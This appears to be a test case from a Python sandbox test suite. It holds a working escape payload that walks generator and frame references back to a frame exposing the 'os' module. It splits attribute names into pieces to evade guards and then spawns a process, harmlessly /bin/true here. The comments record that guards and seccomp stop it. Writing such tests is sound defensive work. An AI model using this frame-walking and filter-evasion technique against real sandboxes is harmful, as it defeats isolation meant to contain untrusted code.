# attack: generator/coroutine/traceback frames
# stops: guards: cannot iterate over value
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# iterating a generator that yields its own running frame
def g():
    yield getattr(getattr(gen, "gi_" + "frame"), "f_ba" + "ck")
gen = g()
for frame in gen:
    while frame is not None and "os" not in getattr(frame, "f_glo" + "bals"):
        frame = getattr(frame, "f_ba" + "ck")
    print("ESCAPED", getattr(frame, "f_glo" + "bals")["os"].posix_spawn("/bin/true", ["true"], {}))
